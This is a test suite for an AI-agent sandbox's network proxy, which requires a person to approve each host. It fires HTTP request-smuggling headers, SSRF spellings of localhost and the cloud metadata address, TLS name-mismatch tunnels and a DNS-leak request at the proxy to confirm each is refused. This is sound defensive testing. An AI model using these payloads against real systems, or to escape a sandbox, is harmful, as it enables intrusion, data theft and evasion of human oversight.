"""The network in the cage: one address, hosts need approval, and there is no way around it."""

import json
import os
import random
import socket
import ssl
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest

from tests.features.cage.plain_user import HANDRAIL, UID, PlainUser, plain_user
from tests.persons import Person
from tests.waiting import until

KEY = "sk-the-persons-key"


@dataclass(slots=True)
class Servers:
    """A TLS server and a plain one, both on loopback, and their requests."""

    tls: int
    plain: int
    certificate: Path
    requests: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
    certificate = tmp_path_factory.mktemp("tls") / "both.pem"
    names = "subjectAltName=DNS:shop.test,DNS:other.test"
    made = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=shop.test", "-addext", names]
    subprocess.run([*made, "-keyout", certificate, "-out", certificate.with_name("cert.pem")], check=True, stderr=-3)
    certificate.write_bytes(certificate.read_bytes() + certificate.with_name("cert.pem").read_bytes())
    result = Servers(0, 0, certificate)

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            result.requests.append((self.command, self.path, {k.lower(): v for k, v in self.headers.items()}))
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"reached")

        do_GET = answer  # noqa: N815 - as the library wants it
        do_POST = answer  # noqa: N815

        def log_message(self, *args: object) -> None:
            """Nothing on stderr."""

    plain, tls = (ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    tls.socket = context.wrap_socket(tls.socket, server_side=True)
    result.plain, result.tls = plain.server_port, tls.server_port
    for server in (plain, tls):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield result
    for server in (plain, tls):
        server.shutdown()
        server.server_close()


def rules(user: PlainUser, *places: str) -> None:
    lines = ['presence = "never"']
    for place in places:
        lines += ["[[rules]]", 'decision = "allow"', 'tool = "net_connect"', f'place = "{place}"' if place else ""]
    (user.state / "config.toml").write_text("\n".join(lines) + "\n")
    if os.geteuid() == 0:
        os.chown(user.state / "config.toml", UID, UID)


@pytest.fixture
def user(servers: Servers) -> Iterator[PlainUser]:
    with plain_user() as plain:
        plain.hosts.write_text("127.0.0.1 localhost shop.test other.test\n169.254.169.254 metadata.test\n")
        yield plain


def inside(user: PlainUser, script: str, **environment: str) -> str:
    result = user.handrail("run", "--", "bash", "-c", script, env=environment)
    return result.stdout.decode() + result.stderr.decode()


@pytest.mark.trial("cage", is_long=True)
def test_a_rule_that_names_the_address_opens_it_and_the_server_name_must_be_the_hosts(
    user: PlainUser, servers: Servers
) -> None:
    rules(user, f"https://shop.test:{servers.tls}", f"https://127.0.0.1:{servers.tls}")
    tunnel = f"openssl s_client -quiet -proxy 127.0.0.1:6007 -connect shop.test:{servers.tls}"
    output = inside(
        user,
        f"curl -sS -k https://shop.test:{servers.tls}/direct; echo;"
        f"(printf 'GET /fronted HTTP/1.0\\r\\n\\r\\n'; sleep 1) | {tunnel} -servername other.test 2>&1 | tail -1;"
        f"(printf 'GET /nameless HTTP/1.0\\r\\n\\r\\n'; sleep 1) | {tunnel} -noservername 2>&1 | tail -1;"
        f"curl -sS --proxytunnel http://shop.test:{servers.tls}/not-tls 2>&1 | tail -1",
    )
    assert output.startswith("reached\n"), output
    assert [path for _, path, _ in servers.requests] == ["/direct"]


@pytest.mark.trial("cage", is_long=True)
def test_a_body_is_never_taken_for_another_request(user: PlainUser, servers: Servers) -> None:
    """A second request could name another host, which wasn't allowed."""
    rules(user, f"http://shop.test:{servers.plain}", f"http://127.0.0.1:{servers.plain}")
    body = "GET /smuggled HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"
    head = f"POST http://shop.test:{servers.plain}/outer HTTP/1.1\\r\\nHost: other.test\\r\\n"
    attempts = [
        f"{head}Connection: close, content-length\\r\\nContent-Length: 44\\r\\n\\r\\n{body}",
        f"{head}Content-Length: 44\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{body}",
        f"{head}Content-Length: 44\\r\\nContent-Length: 0\\r\\n\\r\\n{body}",
        f"{head}Content-Length: 44\\r\\n Content-Length: 0\\r\\n\\r\\n{body}",
        f"{head}X: y\\nContent-Length: 44\\r\\n\\r\\n{body}",
        f"{head}\\r\\n{body}",
    ]
    before = len(servers.requests)
    inside(
        user, "".join(f"exec 3<>/dev/tcp/127.0.0.1/6007; printf '{each}' >&3; timeout 20 cat <&3;" for each in attempts)
    )
    requests = servers.requests[before:]
    assert [(path, headers["host"], headers.get("content-length")) for _, path, headers in requests] == [
        ("/outer", f"shop.test:{servers.plain}", "44"),
        ("/outer", f"shop.test:{servers.plain}", None),
    ]


@pytest.mark.trial("cage", is_long=True)
def test_a_name_that_leads_to_this_machine_is_refused_even_where_the_name_is_allowed(
    user: PlainUser, servers: Servers
) -> None:
    rules(user, f"https://shop.test:{servers.tls}", f"http://shop.test:{servers.plain}", "http://metadata.test")
    before = len(servers.requests)
    output = inside(
        user,
        f"curl -sS -k https://shop.test:{servers.tls}/; curl -sS http://shop.test:{servers.plain}/;"
        f"curl -sS http://metadata.test/; curl -sS -m 3 --noproxy '*' http://127.0.0.1:{servers.plain}/",
    )
    assert (
        output.count("leads to 127.0.0.1, which is not on the public internet") == 1
    )  # curl doesn't show errors of a tunnel
    assert "leads to 169.254.169.254" in output
    assert "response 403" in output
    assert len(servers.requests) == before


@pytest.mark.trial("cage", is_long=True)
def test_this_machine_is_not_reached_by_another_spelling_of_its_address(user: PlainUser, servers: Servers) -> None:
    """Even where a rule allows every host."""
    rules(user, "")
    before = len(servers.requests)
    hosts = (
        "127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "0.0.0.0", "[::1]", "[::]", "localhost.",
        "LOCALHOST", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[::127.0.0.1]", "shop.test.",
    )  # fmt: skip
    requests = [f"{verb} HTTP/1.1" for host in hosts for verb in (
        f"GET http://{host}:{servers.plain}/", f"CONNECT {host}:{servers.plain}", f"GET http://a@{host}:{servers.plain}/"
    )]  # fmt: skip
    requests += [
        f"GET http://example.invalid:{servers.plain}/ HTTP/1.1\r\nHost: 127.0.0.1:{servers.plain}",
        f"GET http://example.invalid@127.0.0.1:{servers.plain}/ HTTP/1.1",
        f"GET http://127.0.0.1:{servers.plain}#@example.invalid/ HTTP/1.1",
        f"GET http://example.invalid\\@127.0.0.1:{servers.plain}/ HTTP/1.1",
        f"GET /anthropic/../http://127.0.0.1:{servers.plain}/ HTTP/1.1",
        "GET /anthropic/v1/messages HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade",
    ]
    (user.project / "asked.json").write_text(json.dumps(requests))
    output = inside(user, f"/usr/bin/python3 - <<'E'\n{_ASKING}\nE")
    assert output.startswith("["), output
    answers = json.loads(output.splitlines()[0])
    assert len(answers) == len(requests)
    assert [line for line, status in zip(requests, answers, strict=True) if status.startswith("2")] == []
    assert len(servers.requests) == before


_ASKING = """
import json, socket
found = []
for head in json.load(open("asked.json")):
    with socket.create_connection(("127.0.0.1", 6007)) as line:
        line.settimeout(20)
        line.sendall((head + "\\r\\nX: y\\r\\n\\r\\n").encode())
        found.append(line.recv(65536).decode(errors="replace")[9:12])
print(json.dumps(found))
"""


def test_handrails_own_ports_are_refused_whatever_a_rule_says(user: PlainUser, servers: Servers) -> None:
    rules(user, f"http://localhost:{servers.plain}", f"http://127.0.0.1:{servers.plain}")
    owner = UID if os.geteuid() == 0 else os.geteuid()
    with closing(socket.socket(socket.AF_UNIX)) as mark:
        mark.bind(f"\0handrail-server-{owner}-{servers.plain}")
        mark.listen()
        output = inside(user, f"curl -sS --noproxy '' http://127.0.0.1:{servers.plain}/")
    assert "may be handrail itself" in output
    assert "reached" in inside(user, f"curl -sS --noproxy '' http://127.0.0.1:{servers.plain}/")


@pytest.mark.trial("cage", is_long=True)
def test_a_person_is_asked_once_for_connections_that_come_together_and_a_no_reaches_all(user: PlainUser) -> None:
    rules(user)
    user.hosts.write_text("127.0.0.1 localhost\n93.184.215.14 registry.test\n")
    script = "for i in 1 2 3; do curl -sS http://registry.test/$i & done; wait"
    command = [str(HANDRAIL), "run", "--", "bash", "-c", script]
    with user.start(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE) as process:
        question = Person(user.state).sees()
        assert "bash in the cage wants to connect to registry.test:80" in json.dumps(question)
        assert "93.184.215.14" not in json.dumps(question)
        answer = user.handrail("prompts", "answer", question["requestId"], "--cancel")
        assert answer.returncode == 0, answer.stderr.decode()
        output = process.communicate(timeout=60)[0].decode()
    assert output.count("net_connect was denied") == 3
    assert Person(user.state).pending() == []


def test_an_agent_that_ends_without_waiting_for_an_answer_leaves_no_question_and_no_traceback(user: PlainUser) -> None:
    rules(user)
    command = [str(HANDRAIL), "run", "--", "bash", "-c", "curl -sS http://registry.test/ & sleep 1000"]
    with user.start(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        Person(user.state).sees()
        process.terminate()
        error = process.communicate(timeout=60)[1].decode()
    assert "Traceback" not in error
    assert "Exception" not in error
    assert Person(user.state).pending() == []


@pytest.mark.trial("cage", is_long=True)
def test_a_clients_model_is_reached_without_a_question_only_if_the_client_signs_in_itself(user: PlainUser) -> None:
    rules(user)
    user.hosts.write_text("127.0.0.1 localhost api.anthropic.com\n")
    command = ["run", "--client", "claude", "--", "curl", "-sS", "-m", "20", "https://api.anthropic.com/"]
    result = user.handrail(*command)
    assert b"response 403" in result.stderr  # the name leads to this machine here, which is found without a question
    assert Person(user.state).pending() == []
    with user.start([str(HANDRAIL), *command], env={"ANTHROPIC_API_KEY": KEY}, stdout=-3, stderr=-3) as process:
        question = Person(user.state).sees()
        process.terminate()
    assert "Claude Code in the cage wants to connect to api.anthropic.com:443" in json.dumps(question)


@pytest.mark.trial("cage", is_long=True)
@pytest.mark.skipif(os.geteuid() != 0, reason="only root can be the name server")
def test_no_name_is_looked_up_before_a_person_allows_it(user: PlainUser) -> None:
    """A domain's owner sees every lookup in it, and so whatever an agent puts into the name."""
    rules(user)
    asked_for: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        own = f"127.99.{os.getpid() % 250}.{os.getpid() // 250 % 250 + 1}"  # other runs of the tests have theirs
        server.bind((own, 53))
        server.settimeout(60)
        user.resolver.write_text(f"nameserver {own}\n")

        def listen() -> None:
            with suppress(OSError):
                while True:
                    asked_for.append(server.recv(512))

        threading.Thread(target=listen, daemon=True).start()
        command = [str(HANDRAIL), "run", "--", "curl", "-sS", "https://the-secret.leak.test/"]
        with user.start(command, stdin=subprocess.DEVNULL, stdout=-3, stderr=-3) as process:
            question = Person(user.state).sees()
            assert asked_for == []
            assert user.handrail("prompts", "answer", question["requestId"], "--cancel").returncode == 0
            assert process.wait(60) != 0
    assert asked_for == []


@pytest.mark.trial("cage", is_long=True)
def test_the_models_key_stays_outside_and_works_only_for_models(user: PlainUser, servers: Servers) -> None:
    rules(user)
    output = inside(
        user,
        "env | grep -c the-persons-key; M=http://127.0.0.1:6007/anthropic;"
        "curl -sS -H 'x-api-key: mine' -H 'authorization: Bearer mine' -d '{}' $M/v1/messages; echo;"
        "curl -sS $M/v1/files; echo; curl -sS $M/v1/models/..%2ffiles; echo; curl -sS http://127.0.0.1:6007/openai/models",
        ANTHROPIC_API_KEY=KEY,
        ANTHROPIC_BASE_URL=f"http://127.0.0.1:{servers.plain}",
    ).splitlines()
    assert output[:2] == ["0", "reached"], output
    assert "key opens only its models" in output[2]
    assert "nothing here" in output[3] or "only its models" in output[3]
    assert "nothing here" in output[4]
    method, path, headers = servers.requests[-1]
    assert (method, path, headers["x-api-key"]) == ("POST", "/v1/messages", KEY)
    assert "authorization" not in headers


@pytest.mark.trial("cage", is_long=True)
def test_handrails_tools_need_the_cages_token_and_leave_files_to_the_agent(user: PlainUser) -> None:
    rules(user)
    about = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}
    bodies = [
        json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
        for method, params in (("initialize", about), ("tools/list", {}))
    ]
    accept = "-H 'content-type: application/json' -H 'accept: application/json, text/event-stream'"
    post = f"curl -sS {accept} http://127.0.0.1:6007/mcp"
    token = '-H "authorization: Bearer $HANDRAIL_CAGE_TOKEN"'
    session = f"$({post} {token} -D - -o /dev/null -d '{bodies[0]}' | grep -i mcp-session-id | tr -d '\\r')"
    output = inside(user, f"{post} -d '{bodies[1]}'; echo; S={session}; {post} {token} -H \"$S\" -d '{bodies[1]}'")
    refused, _, listing = output.partition("\n")
    assert "needs the cage's token" in refused
    assert "ask_followup_question" in listing, listing
    assert "write_to_file" not in listing
    assert "net_connect" not in listing


@pytest.mark.trial("cage", is_long=True)
def test_a_published_port_leads_to_the_same_port_inside(user: PlainUser) -> None:
    rules(user)
    with closing(socket.create_server(("127.0.0.1", 0))) as free:
        port = free.getsockname()[1]
    (user.project / "page.html").write_text("served inside")
    served = f"/usr/bin/python3 -m http.server {port} --bind 127.0.0.1"
    command = [str(HANDRAIL), "run", "--publish", str(port), "--", "sh", "-c", served]
    with user.start(command, stdin=subprocess.DEVNULL, stdout=-3, stderr=-3) as process:
        try:
            page = until(lambda: _page(f"http://127.0.0.1:{port}/page.html"), "the published page")
        finally:
            process.terminate()
    assert page == b"served inside"


@pytest.mark.trial("cage", is_long=True)
@pytest.mark.parametrize("host", ["127.0.0.1", "::1"])
def test_a_port_that_the_agent_opens_is_offered_and_forwarded_until_the_run_ends(user: PlainUser, host: str) -> None:
    rules(user)
    (user.project / "page.html").write_text("served inside")
    port, other = (_unused_port() for _ in range(2))
    served = f"python3 -m http.server {other} & exec python3 -m http.server {port} --bind {host}"
    command = [str(HANDRAIL), "run", "--", "bash", "-c", served]
    person = Person(user.state)
    with user.start(command, stdin=subprocess.DEVNULL, stdout=-3, stderr=-3) as process:
        try:
            until(lambda: len(_asked(person)) == 2, "two questions")
            questions = _asked(person)
            assert f"bash in the cage opened port {port}. Forward it to your browser?" in json.dumps(questions[port])
            assert f"http://localhost:{port}" in json.dumps(questions[port])
            assert _page(f"http://127.0.0.1:{port}/page.html") == b"", "not before a person has said yes"
            for number, answer in ((port, "--ok"), (other, "--cancel")):
                result = user.handrail("prompts", "answer", questions[number]["requestId"], answer)
                assert result.returncode == 0, result.stderr.decode()
            assert until(lambda: _page(f"http://127.0.0.1:{port}/page.html"), "the page") == b"served inside"
            assert _page(f"http://127.0.0.1:{other}/page.html") == b""
            assert person.pending() == []
        finally:
            process.terminate()
    assert _page(f"http://127.0.0.1:{port}/page.html") == b""


def _asked(person: Person) -> dict[int, dict[str, Any]]:
    """The questions about ports, by port."""
    return {int(json.dumps(each).partition("opened port ")[2].partition(".")[0]): each for each in person.pending()}


def _unused_port() -> int:
    """Below the ephemeral ports, which aren't offered."""
    while True:
        with suppress(OSError), closing(socket.create_server(("127.0.0.1", random.randrange(20_000, 30_000)))) as free:
            return int(free.getsockname()[1])


def _page(address: str) -> bytes:
    try:
        with urlopen(address, timeout=5) as answer:
            return bytes(answer.read())
    except OSError:
        return b""
